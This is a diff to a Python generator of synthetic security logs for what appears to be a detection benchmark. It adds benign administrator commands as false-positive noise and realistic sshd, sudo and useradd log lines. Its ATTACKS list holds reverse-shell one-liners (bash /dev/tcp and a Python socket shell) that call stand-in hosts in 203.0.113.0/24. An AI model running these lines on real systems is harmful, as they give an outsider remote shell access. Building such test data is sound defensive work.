@@ -54,6 +54,22 @@ COMMANDS = [
     "nc -zv db-01 5432",
     "/bin/bash /usr/local/bin/backup.sh --full --target /mnt/backup",
 ]
+# Routine operations work on servers, 10% of process starts: what admins and their tools
+# run by hand or from cron. Benign by construction; the rules that fire on them are the
+# false positives the bench reports (docs/detection.md, "False positives").
+ADMIN_COMMANDS = [
+    "id", "whoami", "uname -a", "hostname -f", "cat /etc/os-release", "ss -tlnp", "ps aux",
+    "df -h", "free -m", "uptime", "crontab -l", "last -n 20", "sudo -l",
+    "systemctl restart nginx", "journalctl -u nginx --since today",
+    "apt-get update", "apt-get install -y --only-upgrade openssl", "dpkg -l",
+    "tar czf /backup/etc.tgz /etc", "chmod +x /opt/app/deploy.sh", "/opt/app/deploy.sh",
+    "git pull --ff-only", "docker ps", "kubectl get pods -A",
+    "grep -r error /var/log/nginx", "vi /etc/nginx/nginx.conf", "tail -f /var/log/syslog",
+    "curl -fsSL https://get.docker.com -o get-docker.sh", "sh get-docker.sh",
+    "wget -q https://repo.example.vn/agent.deb -O /tmp/agent.deb", "dpkg -i /tmp/agent.deb",
+    "useradd -m -s /bin/bash deploy", "passwd deploy", "usermod -aG docker deploy",
+    "netstat -tulpn", "find /var/www -name *.php -mtime -1", "history",
+]
 ATTACKS = [
     "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
     "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",443));"
@@ -87,7 +103,8 @@ def make_event(rng: random.Random, i: int, attacks: bool = True) -> dict[str, An
     r = rng.random()
     if r < 0.33:
         attack = rng.random() < 0.0005 and attacks
-        cmd = rng.choice(ATTACKS) if attack else rng.choice(COMMANDS)
+        admin = rng.random() < 0.1
+        cmd = rng.choice(ATTACKS) if attack else rng.choice(ADMIN_COMMANDS if admin else COMMANDS)
         exe = cmd.split()[0] if cmd.startswith("/") else "/usr/bin/" + cmd.split()[0]
         return _base(rng, "process", i, event={"category": ["process"], "type": ["start"]},
                      process={"pid": rng.randint(100, 99999), "command_line": cmd,
@@ -106,18 +123,32 @@ def make_event(rng: random.Random, i: int, attacks: bool = True) -> dict[str, An
             ip = f"203.0.113.{rng.randint(1, 20)}"
         else:
             ip = f"10.0.{rng.randint(0, 9)}.{rng.randint(1, 254)}"
+        action = rng.choice(["ssh_login", "ssh_login", "sudo", "su"])
+        user = rng.choice(["root", "admin", "oracle", "deploy"])
+        port = rng.randint(1024, 65535)
+        if action == "sudo":
+            line = (f"sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
+                    f"COMMAND=/usr/bin/{rng.choice(ADMIN_COMMANDS)}")
+        elif action == "su":
+            line = f"su[{rng.randint(100, 99999)}]: (to root) {user} on pts/1"
+        else:
+            line = (f"sshd[{rng.randint(100, 99999)}]: "
+                    f"{'Failed' if failure else 'Accepted'} password for {user} from {ip} "
+                    f"port {port} ssh2")
         return _base(rng, "auth", i,
-                     event={"category": ["authentication"], "type": ["start"],
-                            "action": rng.choice(["ssh_login", "ssh_login", "sudo", "su"]),
-                            "outcome": "failure" if failure else "success"},
-                     user={"name": rng.choice(["root", "admin", "oracle", "deploy"])},
-                     source={"ip": ip, "port": rng.randint(1024, 65535)},
+                     event={"category": ["authentication"], "type": ["start"], "action": action,
+                            "outcome": "failure" if failure else "success",
+                            "original": "Dec  2 07:40:01 srv " + line},
+                     user={"name": user}, source={"ip": ip, "port": port},
                      process={"name": "sshd"})
     if r < 0.532:
         etype = rng.choice([["user", "creation"], ["user", "change"], ["group", "creation"]])
+        name, uid = f"u{rng.randint(1, 50)}", rng.randint(0 if attacks else 1, 2000)
+        line = (f"Dec  2 07:40:01 srv useradd[{rng.randint(100, 99999)}]: new user: name={name}, "
+                f"UID={uid}, GID={uid}, home=/home/{name}, shell=/bin/bash")
         return _base(rng, "iam", i, event={"category": ["iam"], "type": etype,
-                                          "action": "user_modified"},
-                     user={"name": f"u{rng.randint(1, 50)}", "id": str(rng.randint(0, 2000))})
+                                          "action": "user_modified", "original": line},
+                     user={"name": name, "id": str(uid)})
     if r < 0.64:
         return _base(rng, "file", i, event={"category": ["file"],
                                            "type": [rng.choice(["change", "creation"])]},
